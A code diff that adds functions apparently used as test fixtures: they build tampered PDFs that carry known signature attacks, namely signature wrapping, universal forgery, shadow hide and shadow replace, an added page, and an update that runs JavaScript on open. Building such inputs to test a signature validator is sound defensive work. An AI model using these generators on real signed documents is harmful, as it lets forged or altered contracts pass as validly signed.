@@ -116,3 +116,103 @@ def spoofed_dictionary(pdf: bytes) -> bytes:
     field[generic.pdf_name("/V")] = writer.add_object(copy)
     writer.update_container(field)
     return pdfs.written(writer)
+
+
+def wrapped(pdf: bytes) -> bytes:
+    """Signature wrapping: what was signed after the message is moved back, and other objects put in between.
+
+    The new cross-references stand where the signed end of the file points to, and a dictionary of the attacker's own
+    says the byte range around all that.
+    """
+    first, second = pdfs.byte_range(pdf)[1:3]
+    old, message = last_startxref(pdf), pdf[first:second]
+    reader = PdfFileReader(io.BytesIO(pdf))
+    root, field = reader.root_ref.idnum, reader.root["/AcroForm"]["/Fields"].raw_get(0).idnum
+    number, size = page_content(pdf).idnum, int(reader.trailer["/Size"])
+    catalogue = b"<< /Type /Catalog /Pages %d 0 R /AcroForm << /Fields [%d 0 R] /SigFlags 3 >> >>" % (
+        reader.root.raw_get("/Pages").reference.idnum,
+        field,
+    )
+    start = old + 600
+    objects, offsets = bytearray(), {}
+    for name, text in (
+        (number, object_text(number).partition(b"obj\n")[2].rpartition(b"\nendobj")[0]),
+        (root, catalogue),
+        (field, b"<< /FT /Sig /Type /Annot /Subtype /Widget /Rect [0 0 0 0] /T (ChuKy1) /V %d 0 R >>" % size),
+        (size, b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /ByteRange [0 %d %010d %d] "
+               b"/Contents %s >>" % (first, 0, len(pdf) - second, message)),
+    ):  # fmt: skip
+        offsets[name] = start + len(objects)
+        objects += b"%d 0 obj\n%s\nendobj\n" % (name, text)
+    rows = b"".join(b"%d 1\n%010d 00000 n \n" % pair for pair in sorted(offsets.items()))
+    first_table = int(re.findall(rb"startxref\s+(\d+)", pdf)[0])
+    index = b"xref\n%strailer\n<< /Size %d /Root %d 0 R /Prev %d >>\n" % (rows, size + 1, root, first_table)
+    middle = (b" " * (old - second) + index).ljust(start - second) + objects
+    moved = second + len(middle)
+    middle = middle.replace(
+        b"%d %010d %d]" % (first, 0, len(pdf) - second), b"%d %010d %d]" % (first, moved, len(pdf) - second)
+    )
+    return pdf[:second] + middle + pdf[second:]
+
+
+def forged(entries: bytes) -> bytes:
+    """Universal forgery: a signature dictionary with these entries and nothing that was ever signed."""
+    bare = pdfs.bare()
+    reader = PdfFileReader(io.BytesIO(bare))
+    number, catalogue = int(reader.trailer["/Size"]), io.BytesIO()
+    reader.root.write_to_stream(catalogue, None)
+    return update(
+        bare,
+        {
+            number: b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached %s >>" % entries,
+            number + 1: b"<< /FT /Sig /Type /Annot /Subtype /Widget /Rect [0 0 0 0] /T (ChuKy1) /V %d 0 R >>" % number,
+            reader.root_ref.idnum: catalogue.getvalue().rstrip().removesuffix(b">>")
+            + b" /AcroForm << /Fields [%d 0 R] /SigFlags 3 >> >>" % (number + 1),
+        },
+    )
+
+
+def shadow_hidden_layer() -> bytes:
+    """Shadow hide: the author lays an image over the text before it is signed; afterwards the layer goes."""
+    layered = pdfs.with_annotation(pdfs.bare())
+    signed = pdfs.signed_pdf(pdf=layered)
+    writer = IncrementalPdfFileWriter(io.BytesIO(signed))
+    page = writer.root["/Pages"]["/Kids"][0]
+    page[generic.pdf_name("/Annots")] = generic.ArrayObject(list(page["/Annots"])[1:])
+    writer.update_container(page)
+    return pdfs.written(writer)
+
+
+def with_page(pdf: bytes) -> bytes:
+    """An update that adds a page."""
+    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
+    pages = writer.root["/Pages"]
+    page = generic.DictionaryObject({  # type: ignore[no-untyped-call]
+        generic.pdf_name("/Type"): generic.pdf_name("/Page"),
+        generic.pdf_name("/Parent"): writer.root.raw_get("/Pages"),
+        generic.pdf_name("/MediaBox"): generic.ArrayObject(map(generic.NumberObject, (0, 0, 100, 100))),
+    })  # fmt: skip
+    pages[generic.pdf_name("/Kids")] = generic.ArrayObject([*pages["/Kids"], writer.add_object(page)])
+    pages[generic.pdf_name("/Count")] = generic.NumberObject(len(pages["/Kids"]))  # type: ignore[no-untyped-call]
+    writer.update_container(pages)
+    return pdfs.written(writer)
+
+
+def with_action(pdf: bytes) -> bytes:
+    """An update that makes the document run a script when it is opened."""
+    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
+    action = generic.DictionaryObject({  # type: ignore[no-untyped-call]
+        generic.pdf_name("/S"): generic.pdf_name("/JavaScript"),
+        generic.pdf_name("/JS"): generic.pdf_string("app.alert(1)"),
+    })  # fmt: skip
+    writer.root[generic.pdf_name("/OpenAction")] = writer.add_object(action)
+    writer.update_root()  # type: ignore[no-untyped-call]
+    return pdfs.written(writer)
+
+
+def font_replaced(pdf: bytes) -> bytes:
+    """Shadow replace: the font that the text is written in becomes another."""
+    page = PdfFileReader(io.BytesIO(pdf)).root["/Pages"]["/Kids"][0]
+    fonts = page["/Resources"]["/Font"]
+    number = fonts.raw_get(next(iter(fonts))).reference.idnum
+    return update(pdf, {number: b"<< /Type /Font /Subtype /Type1 /Name /F1 /BaseFont /ZapfDingbats >>"})
